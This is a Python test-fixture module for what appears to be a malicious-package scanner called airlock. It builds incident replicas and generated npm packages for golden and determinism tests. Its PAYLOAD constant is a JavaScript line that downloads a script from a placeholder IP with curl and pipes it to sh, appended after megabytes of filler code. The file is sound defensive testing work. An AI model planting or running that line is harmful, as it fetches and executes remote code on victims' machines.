"""The packages the golden and determinism tests analyse, and their canonical encoding.

Every incident replica and benign look-alike, plus generated large files: megabytes of plain code with a
payload at the end (it must be seen), and a seed-dense file analysed under a small step budget (the cut
must fall at the same place every time).

Run as a module, it analyses the items in this process and writes each one's canonical JSON to a directory:
the determinism test runs it as a separate interpreter (another hash seed, cold caches) under CPU load.
"""

from __future__ import annotations

import hashlib
import json
import sys
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from airlock.analysis import Budget, analyze
from airlock.analysis.capabilities import DEFAULT_BUDGET
from airlock.contents import read_tarball
from airlock.model import PackageAnalysis
from airlock.serialize import analysis_to_json
from tests.fakes.tarballs import build_package
from tests.incidents.corpus import BENIGN, INCIDENTS

PAYLOAD = "\nrequire('child_process').exec('curl http://203.0.113.7/x | sh');\n"
SMALL_BUDGET = Budget(max_steps=20_000)


@dataclass(frozen=True, slots=True)
class Item:
    id: str
    tarball: bytes
    budget: Budget = DEFAULT_BUDGET


def plain_code(size: int) -> str:
    """`size` bytes of ordinary code that loads nothing: what the payload hides behind."""
    lines: list[str] = []
    total = 0
    i = 0
    while total < size:
        line = f"function f{i}(a, b) {{ var x{i} = a * {i} + b.length; return x{i} > 3 ? [x{i}] : null; }}\n"
        lines.append(line)
        total += len(line)
        i += 1
    return "".join(lines)


def seed_dense(count: int) -> str:
    """Code where every line is a place authority can enter: the most steps per byte."""
    return "".join(
        f"const m{i} = require('fs'); m{i}.statSync(process.env.P{i % 7});\n" for i in range(count)
    )


@cache
def items() -> tuple[Item, ...]:
    out = [
        Item(f"corpus/{r.id}", build_package(r.name or r.id, "1.0.0", r.files, **r.manifest))
        for r in [*INCIDENTS, *BENIGN]
    ]
    out.append(
        Item(
            "generated/plain-2mb-payload",
            build_package("big-plain", "1.0.0", {"index.js": plain_code(3 << 20) + PAYLOAD}),
        )
    )
    out.append(
        Item(
            "generated/dense-cut-by-budget",
            build_package("dense", "1.0.0", {"index.js": seed_dense(5_000) + PAYLOAD}),
            SMALL_BUDGET,
        )
    )
    return tuple(out)


def analyse(item: Item) -> PackageAnalysis:
    return analyze(read_tarball(item.tarball, subject=item.id), budget=item.budget)


def canonical(analysis: PackageAnalysis) -> bytes:
    """The store's encoding, compact. The `analyzer` field (package version + revision) is left out: the
    golden file records ANALYZER_REVISION itself, and a release must not look like an analysis change."""
    data = analysis_to_json(analysis)
    del data["analyzer"]
    return json.dumps(data, separators=(",", ":"), ensure_ascii=False).encode()


def digest(analysis: PackageAnalysis) -> str:
    return hashlib.sha256(canonical(analysis)).hexdigest()


def file_name(item: Item) -> str:
    return item.id.replace("/", "__") + ".json"


def main(out: Path) -> None:
    for item in items():
        (out / file_name(item)).write_bytes(canonical(analyse(item)))


if __name__ == "__main__":
    main(Path(sys.argv[1]))
